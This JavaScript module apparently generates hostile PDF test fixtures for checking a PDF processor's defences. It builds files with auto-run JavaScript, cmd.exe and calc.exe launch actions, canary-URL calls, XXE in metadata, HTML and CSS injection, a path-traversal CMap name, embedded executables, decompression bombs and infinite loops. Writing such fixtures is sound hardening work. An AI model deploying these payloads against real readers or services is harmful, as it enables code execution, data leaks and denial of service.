// SPDX-License-Identifier: EUPL-1.2
/** PDF files that would do something: run a script, call an address, start a program, fill the memory, or never end. */
import { createHash } from "node:crypto";
import { deflateSync } from "node:zlib";

/** Objects by number (text, or text and a stream) as a file with a table that fits. */
export function assemble(objects, { trailer = "", before = "", after = "" } = {}) {
  const parts = [Buffer.from(`${before}%PDF-1.7\n%\xe2\xe3\xcf\xd3\n`, "latin1")];
  let at = parts[0].length;
  const offsets = [];
  const add = (bytes) => {
    parts.push(bytes);
    at += bytes.length;
  };
  objects.forEach((object, index) => {
    offsets.push(at);
    const [head, stream] = Array.isArray(object) ? object : [object, null];
    const bytes = stream === null ? null : Buffer.isBuffer(stream) ? stream : Buffer.from(stream, "latin1");
    const dict = bytes === null ? head : head.replace(/>>$/, `/Length ${bytes.length} >>`);
    add(Buffer.from(`${index + 1} 0 obj\n${dict}\n`, "latin1"));
    if (bytes !== null) add(Buffer.concat([Buffer.from("stream\n"), bytes, Buffer.from("\nendstream\n")]));
    add(Buffer.from("endobj\n"));
  });
  const table = offsets.map((offset) => `${String(offset).padStart(10, "0")} 00000 n \n`).join("");
  add(Buffer.from(`xref\n0 ${offsets.length + 1}\n0000000000 65535 f \n${table}trailer\n<< /Size ${offsets.length + 1} /Root 1 0 R ${trailer} >>\nstartxref\n${at}\n%%EOF\n${after}`, "latin1"));
  return Buffer.concat(parts);
}

const HELLO = "BT /F1 24 Tf 60 700 Td (Guten Tag) Tj ET";

/** One page that says "Guten Tag", with what is put in at its places; further objects begin at 6. */
export function onePage({ catalog = "", page = "", resources = "", content = HELLO, font = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>", more = [], box = "[0 0 595 842]", ...rest } = {}) {
  return assemble(
    [
      `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
      "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
      `<< /Type /Page /Parent 2 0 R /MediaBox ${box} /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> ${resources} >> ${page} >>`,
      Array.isArray(content) ? content : ["<< >>", content],
      font,
      ...more,
    ],
    rest,
  );
}

/** Pages with text, for people. */
export function pages(texts) {
  const n = texts.length;
  const kids = texts.map((_, index) => `${4 + index * 2} 0 R`).join(" ");
  return assemble([
    "<< /Type /Catalog /Pages 2 0 R /Lang (de) >>",
    `<< /Type /Pages /Kids [${kids}] /Count ${n} >>`,
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ...texts.flatMap((text, index) => [
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents ${5 + index * 2} 0 R /Resources << /Font << /F1 3 0 R >> >> >>`,
      ["<< >>", `BT /F1 24 Tf 60 760 Td (${text}) Tj ET`],
    ]),
  ]);
}

const box = "/Rect [0 0 595 842] /F 4";
const annotation = (rest) => ({ page: `/Annots [<< /Type /Annot ${box} ${rest} >>]` });
const escaped = (text) => text.replaceAll(/([\\()])/g, "\\$1");

/** A password of somebody else: revision 2 of the old handler, where any 32 bytes are a key nobody has. */
function encrypted() {
  const id = createHash("md5").update("siegelpost").digest("hex");
  const bytes = createHash("sha256").update("nobody").digest("hex");
  return onePage({ more: [`<< /Filter /Standard /V 1 /R 2 /Length 40 /P -44 /O <${bytes}> /U <${bytes}> >>`], trailer: `/Encrypt 6 0 R /ID [<${id}> <${id}>]` });
}

/** By name; `js` is the canary's script, `url` an address that nobody may call. */
export function hostilePdfs({ js, url }) {
  const script = escaped(js);
  const run = `<< /S /JavaScript /JS (${script}) >>`;
  const bomb = deflateSync(Buffer.alloc(30_000_000, 0x20), { level: 1 });
  const image = (w, h, filter, data, rest = "") => ({
    resources: "/XObject << /I 6 0 R >>",
    content: "q 500 0 0 500 40 200 cm /I Do Q",
    more: [[`<< /Type /XObject /Subtype /Image /Width ${w} /Height ${h} /BitsPerComponent 8 /ColorSpace /DeviceRGB ${filter === "" ? "" : `/Filter /${filter}`} ${rest} >>`, data]],
  });
  const field = (rest) => ({ catalog: "/AcroForm << /Fields [6 0 R] /NeedAppearances true >>", page: "/Annots [6 0 R]", more: [`<< /Type /Annot /Subtype /Widget /FT /Tx /T (f) /V (x) ${box} ${rest} >>`] });
  return {
    "open-action-js": onePage({ catalog: `/OpenAction ${run}` }),
    "open-action-uri": onePage({ catalog: `/OpenAction << /S /URI /URI (${url}) >>` }),
    "open-action-launch": onePage({ catalog: "/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>" }),
    "open-action-goto-remote": onePage({ catalog: `/OpenAction << /S /GoToR /F << /FS /URL /F (${url}) >> /D [0 /Fit] >>` }),
    "open-action-submit": onePage({ catalog: `/OpenAction << /S /SubmitForm /F << /FS /URL /F (${url}) >> /Flags 4 >>` }),
    "open-action-print": onePage({ catalog: "/OpenAction << /S /Named /N /Print >>" }),
    "open-action-chain": onePage({ catalog: `/OpenAction << /S /Named /N /NextPage /Next [${run} << /S /URI /URI (${url}) >>] >>` }),
    "will-close-js": onePage({ catalog: `/AA << /WC ${run} /WS ${run} /WP ${run} >>` }),
    "page-open-js": onePage({ page: `/AA << /O ${run} /C ${run} >>` }),
    "names-js": onePage({ catalog: `/Names << /JavaScript << /Names [(a) ${run}] >> >>` }),
    "outline-js": onePage({ catalog: "/Outlines 6 0 R /PageMode /UseOutlines", more: ["<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>", `<< /Title (<img src=x onerror=${script}>) /Parent 6 0 R /A ${run} >>`] }),
    "link-uri": onePage(annotation(`/Subtype /Link /A << /S /URI /URI (${url}) >>`)),
    "link-javascript-uri": onePage(annotation(`/Subtype /Link /A << /S /URI /URI (javascript:${script}) >>`)),
    "link-data-uri": onePage(annotation(`/Subtype /Link /A << /S /URI /URI (data:text/html,<script>${script}</script>) >>`)),
    "link-launch": onePage(annotation("/Subtype /Link /A << /S /Launch /F (calc.exe) >>")),
    "link-js-hover": onePage(annotation(`/Subtype /Link /AA << /E ${run} /D ${run} /PO ${run} /PV ${run} >>`)),
    "link-goto-embedded": onePage(annotation("/Subtype /Link /A << /S /GoToE /T << /R /C /N (a.pdf) >> /D [0 /Fit] >>")),
    "note-html": onePage(annotation(`/Subtype /Text /Contents (<script>${script}</script>) /RC (<body><img src="${url}"/><script>${script}</script></body>) /T (<b>x)`)),
    "free-text-rich": onePage(annotation(`/Subtype /FreeText /DA (/F1 12 Tf) /Contents (x) /RC (<body xmlns="http://www.w3.org/1999/xhtml"><a href="javascript:${script}">x</a></body>)`)),
    "file-attachment": onePage({ ...annotation("/Subtype /FileAttachment /FS 6 0 R"), more: ["<< /Type /Filespec /F (rechnung.html) /EF << /F 7 0 R >> >>", ["<< /Type /EmbeddedFile /Subtype /text#2Fhtml >>", `<script>${js}</script>`]] }),
    "embedded-files": onePage({ catalog: "/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>", more: ["<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>", ["<< /Type /EmbeddedFile >>", "MZ\x90\x00"]] }),
    "portfolio": onePage({ catalog: "/Collection << /View /D >> /Names << /EmbeddedFiles << /Names [(a.html) 6 0 R] >> >>", more: ["<< /Type /Filespec /F (a.html) /EF << /F 7 0 R >> >>", ["<< /Type /EmbeddedFile >>", `<script>${js}</script>`]] }),
    "rich-media": onePage({ ...annotation(`/Subtype /RichMedia /RichMediaContent << /Assets << /Names [(a.swf) 6 0 R] >> >> /RichMediaSettings << /Activation << /Condition /PO >> >>`), more: ["<< /Type /Filespec /F (a.swf) /EF << /F 7 0 R >> >>", ["<< >>", "FWS"]] }),
    "screen-rendition": onePage(annotation(`/Subtype /Screen /A << /S /Rendition /OP 0 /JS (${script}) /R << /S /MR /C << /S /MCD /D << /FS /URL /F (${url}) >> >> >> >>`)),
    "movie": onePage(annotation(`/Subtype /Movie /Movie << /F << /FS /URL /F (${url}) >> >> /A true`)),
    "sound": onePage({ catalog: "/OpenAction << /S /Sound /Sound 6 0 R >>", more: [[`<< /Type /Sound /R 8000 /F << /FS /URL /F (${url}) >> >>`, ""]] }),
    "stamp-appearance": onePage({ ...annotation("/Subtype /Stamp /AP << /N 6 0 R >>"), more: [[`<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /OPI << /F << /FS /URL /F (${url}) >> >> >>`, "0 0 9 9 re f"]] }),
    "field-calculate": onePage({ ...field(`/AA << /C ${run} /F ${run} /K ${run} /V ${run} /Fo ${run} >>`) }),
    "field-button": onePage({ ...field(`/FT /Btn /Ff 65536 /A ${run} /MK << /CA (Hier) >>`) }),
    "field-value-html": onePage({ ...field(`/V (<script>${script}</script>) /RV (<body><script>${script}</script></body>) /DA (/F1 12 Tf)`) }),
    "signature": onePage({ catalog: "/AcroForm << /Fields [6 0 R] /SigFlags 3 >>", more: [`<< /FT /Sig /T (s) /V << /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /ByteRange [0 9 9 9] /Contents <30> /Prop_Build << /App << /Name (${url}) >> >> >> >>`] }),
    "xfa": onePage({ catalog: "/NeedsRendering true /AcroForm << /XFA 6 0 R /Fields [] >>", more: [["<< >>", `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="a"><event activity="initialize"><script contentType="application/x-javascript">${js}</script></event><draw><value><exData contentType="text/html"><body xmlns="http://www.w3.org/1999/xhtml"><a href="javascript:${js}">x</a><img src="${url}"/></body></exData></value></draw></subform></template></xdp:xdp>`]] }),
    "xmp-xxe": onePage({ catalog: "/Metadata 6 0 R", more: [["<< /Type /Metadata /Subtype /XML >>", `<!DOCTYPE x [<!ENTITY e SYSTEM "${url}">]><x:xmpmeta xmlns:x="adobe:ns:meta/">&e;<script>${js}</script></x:xmpmeta>`]] }),
    "info-html": onePage({ trailer: "/Info 6 0 R", more: [`<< /Title (<script>${script}</script>) /Author ("><img src=${url}>) >>`] }),
    "uri-base": onePage({ catalog: `/URI << /Base (${url}) >>`, ...annotation("/Subtype /Link /A << /S /URI /URI (x) >>") }),
    "font-matrix-code": onePage({ font: `<< /Type /Font /Subtype /Type1 /BaseFont /Evil /FontDescriptor << /Type /FontDescriptor /FontName /Evil /Flags 4 >> /FontMatrix [0.001 0 0 0.001 0 (0\\); ${script}//)] >>` }),
    "type3-code": onePage({ font: `<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 (0\\); ${script}//)] /FirstChar 71 /LastChar 71 /Widths [9] /Encoding << /Differences [71 /a] >> /CharProcs << /a 6 0 R >> >>`, more: [["<< >>", "9 0 d0 0 0 9 9 re f"]] }),
    "font-name-css": onePage({ font: `<< /Type /Font /Subtype /TrueType /BaseFont /x"\\;src:url\\(${url}\\)\\;} >>` }),
    "font-garbage": onePage({ font: "<< /Type /Font /Subtype /TrueType /BaseFont /Evil /FirstChar 32 /LastChar 33 /Widths [9 9] /FontDescriptor << /Type /FontDescriptor /FontName /Evil /Flags 4 /FontFile2 6 0 R >> >>", more: [["<< >>", Buffer.alloc(4096, 0xff)]] }),
    "postscript-function": onePage({ resources: "/ColorSpace << /C [/Separation /x /DeviceRGB 6 0 R] >>", content: "/C cs 1 scn 0 0 99 99 re f", more: [["<< /FunctionType 4 /Domain [0 1] /Range [0 1 0 1 0 1] >>", `{ ${js.replaceAll(/[{}]/g, "")} dup dup }`]] }),
    "external-stream": onePage({ content: [`<< /F << /FS /URL /F (${url}) >> >>`, ""] }),
    "external-image": onePage(image(9, 9, "", "", `/F << /FS /URL /F (${url}) >>`)),
    "external-cmap": onePage({ font: `<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /..#2F..#2Fapi#2Fportal#2Fconfig /DescendantFonts [<< /Type /Font /Subtype /CIDFontType2 /BaseFont /X /CIDSystemInfo << /Registry (Adobe) /Ordering (Japan1) /Supplement 0 >> >>] >>` }),
    "reference-xobject": onePage({ resources: "/XObject << /I 6 0 R >>", content: "/I Do", more: [[`<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F << /FS /URL /F (${url}) >> /Page 0 >> >>`, ""]] }),
    "stream-bomb": onePage({ content: ["<< /Filter /FlateDecode >>", bomb] }),
    "stream-bomb-twice": onePage({ content: ["<< /Filter [/FlateDecode /FlateDecode] >>", deflateSync(bomb)] }),
    "image-bomb": onePage(image(100_000, 100_000, "FlateDecode", deflateSync(Buffer.alloc(1000)))),
    "image-negative": onePage(image(-5, 2_147_483_647, "FlateDecode", deflateSync(Buffer.alloc(10)))),
    "jpx-garbage": onePage(image(64, 64, "JPXDecode", Buffer.concat([Buffer.from("0000000c6a5020200d0a870a", "hex"), Buffer.alloc(512, 7)]))),
    "jbig2-garbage": onePage(image(64, 64, "JBIG2Decode", Buffer.alloc(512, 0x31))),
    "ccitt-garbage": onePage(image(64, 64, "CCITTFaxDecode", Buffer.alloc(512, 0x55))),
    "dct-garbage": onePage(image(64, 64, "DCTDecode", Buffer.concat([Buffer.from("ffd8ffe000104a46494600", "hex"), Buffer.alloc(512, 3)]))),
    "page-huge": onePage({ box: "[0 0 1000000000 1000000000]" }),
    "page-empty-box": onePage({ box: "[0 0 0 0]" }),
    "page-strange-box": onePage({ box: "[(x) null 1e999 -1e999]" }),
    "pages-loop": assemble(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [2 0 R] /Count 5 >>"]),
    "pages-many": assemble(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [] /Count 2147483647 >>"]),
    "form-loop": onePage({ resources: "/XObject << /I 6 0 R >>", content: "/I Do", more: [["<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /I 6 0 R >> >> >>", "/I Do /I Do"]] }),
    "pattern-loop": onePage({ resources: "/Pattern << /P 6 0 R >>", content: "/Pattern cs /P scn 0 0 500 500 re f", more: [["<< /Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.0001 /YStep 0.0001 /Resources << /Pattern << /P 6 0 R >> >> >>", "/Pattern cs /P scn 0 0 1 1 re f"]] }),
    "nested-arrays": onePage({ catalog: `/X ${"[".repeat(100_000)}` }),
    "deep-q": onePage({ content: "q ".repeat(20_000) }),
    "reference-loop": assemble(["2 0 R", "1 0 R"]),
    "xref-loop": Buffer.from("%PDF-1.7\nxref\n0 0\ntrailer\n<< /Prev 9 /Root 1 0 R >>\nstartxref\n9\n%%EOF\n"),
    "header-only": Buffer.from("%PDF-1.7\n"),
    "cut": onePage().subarray(0, 200),
    "encrypted": encrypted(),
    "html-behind-header": Buffer.from(`%PDF-1.7\n<html><script>${js}</script><img src="${url}"></html>`),
    "html-before-header": onePage({ before: `<html><script>${js}</script></html>\n` }),
    "html-behind-end": onePage({ after: `<html><script>${js}</script></html>` }),
    "zip-behind-end": onePage({ after: "PK\x03\x04" }),
  };
}
